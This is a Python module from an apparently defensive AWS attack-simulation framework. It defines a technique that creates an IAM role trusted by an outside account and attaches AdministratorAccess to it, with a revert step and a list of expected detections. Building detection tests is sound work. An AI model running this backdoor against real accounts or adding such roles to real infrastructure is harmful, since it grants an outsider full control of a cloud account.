"""Create a new IAM role that an outside account may assume, and make it an administrator."""

from __future__ import annotations

from cloudsoc.aws.session import client
from cloudsoc.simulate.technique import Ctx, Json, Technique, technique
from cloudsoc.simulate.techniques.persistence._iam import OUTSIDE_ACCOUNT, delete_role, trust

ROLE = "support-access"


@technique
class IamCreateBackdoorRole(Technique):
    title = "Create a backdoored IAM role"
    attack = ("T1098.003",)
    expects = ("iam_role_trust_external_account", "iam_admin_policy_attached")
    description = "Creates a role whose trust policy admits an outside AWS account and attaches AdministratorAccess to it."

    def detonate(self, ctx: Ctx, state: Json) -> None:
        iam = client("iam", session=ctx.attacker())
        iam.create_role(
            RoleName=ROLE, AssumeRolePolicyDocument=trust({"AWS": f"arn:aws:iam::{OUTSIDE_ACCOUNT}:root"})
        )
        iam.attach_role_policy(RoleName=ROLE, PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")

    def revert(self, ctx: Ctx, state: Json) -> None:
        delete_role(ctx, ROLE)
